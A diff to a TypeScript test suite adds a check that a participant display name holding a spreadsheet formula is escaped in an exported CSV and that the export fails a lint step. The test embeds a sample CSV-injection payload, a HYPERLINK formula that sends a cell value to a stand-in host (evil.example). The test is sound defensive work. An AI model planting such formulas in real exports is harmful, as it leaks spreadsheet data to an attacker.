@@ -9,6 +9,7 @@ import {
 import { auditCommands } from '../../../main/cli/audit-commands.ts';
 import { auditRows } from '../../../main/db/audit-log.ts';
 import { latestIndexVersion } from '../../../main/db/index-exports.ts';
+import { draftIndex } from '../../../main/services/index-export/draft-index.ts';
 import { captureIo } from '../../support/capture-io.ts';
 import { dispute, type Json } from '../disputes/support/published-close.ts';
 import { publishedSeason } from './support/exported-season.ts';
@@ -83,6 +84,27 @@ describe('proveit index export on a published devnet season', () => {
     const db = ctx.db.open();
     expect(latestIndexVersion(db, 1)).toBeUndefined();
     db.close();
+  });
+
+  it('a display name =HYPERLINK(...) is never a live formula in tables/*.csv: the draft writes it inert, the export is blocked (LINT_FORMULA_TEXT)', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
+    expect((await rename(alice, formula)).code).toBe(0);
+    const db = ctx.db.open();
+    const draft = draftIndex(db, { season: 1, clock: ctx.clock });
+    db.close();
+    if (!draft.ok) throw new Error(draft.error.message);
+    const csv = new TextDecoder().decode(draft.value.files.get('tables/conformite-community.csv'));
+    const row = csv.split('\r\n').find((l) => l.includes(alice))!;
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",`);
+    expect(row).not.toMatch(/(^|,)=/);
+    const out = join(ctx.work, 'blocked-formula');
+    const r = await exportTo(out);
+    expect(r.code).toBe(1);
+    expect(r.doc).toMatchObject({ ok: false, code: 'INDEX_LINT_FAILED' });
+    expect(r.doc!['details'].findings.map((f: Json) => [f.code, f.file, f.where])).toEqual([
+      ['LINT_FORMULA_TEXT', 'tables/conformite-community.csv', `conformite/${alice}: agent`],
+    ]);
+    expect(existsSync(out)).toBe(false);
   });
 
   it('after participant rename and participant reference, version 1 exports, signed, and verifies (exit 0)', async () => {
